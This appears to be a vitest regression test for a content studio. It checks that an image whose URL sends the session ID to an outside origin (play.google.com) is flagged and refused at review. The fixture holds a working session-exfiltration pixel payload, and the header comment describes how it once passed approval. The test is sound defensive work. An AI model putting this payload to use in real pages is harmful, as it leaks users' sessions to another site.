// @vitest-environment node
// Issue 28 item 3, the probe through the studio: an image whose address sends the session to
// https://play.google.com (an origin the default configuration lists) passed save, review,
// four-eyes approval and publication, and the live /about sent the signed session there. The
// server's check now refuses it at review, with the checker's error.
import { afterEach, describe, expect, it } from 'vitest';
import { backends } from './helpers.js';
import { editor, liveId, screenText, startStudio, type StudioServer } from './studio-helpers.js';

describe.each(backends)('a pixel carrying the session, through the studio on %s', (backend) => {
  let s: StudioServer;
  afterEach(async () => s?.close());

  it('is saved as a draft with its error, and review refuses it', async () => {
    s = await startStudio(backend);
    const ed = await editor(s.app);
    const text = screenText('hello', 'Go', {
      params: ['sessionId'],
      body: [{ type: 'image', src: { t: 'https://play.google.com/p.gif?sid={params.sessionId}' }, alt: '' }],
    });
    const saved = await ed.call('PUT', '/documents/screen/hello/draft', {
      text,
      parentRevisionId: await liveId(ed, 'screen', 'hello'),
    });
    expect(saved.status).toBe(200);
    expect(saved.body.errors).toBe(1);
    const review = await ed.call('POST', `/drafts/${saved.body.draft.id as number}/review`, {});
    expect(review.status).toBe(422);
    expect(review.body.problems).toEqual([
      expect.objectContaining({
        keyword: 'offsite-session',
        severity: 'error',
        pointer: '/body/0/src',
        message: expect.stringContaining('puts params.sessionId into an address that may go to another site'),
      }),
    ]);
  });
});
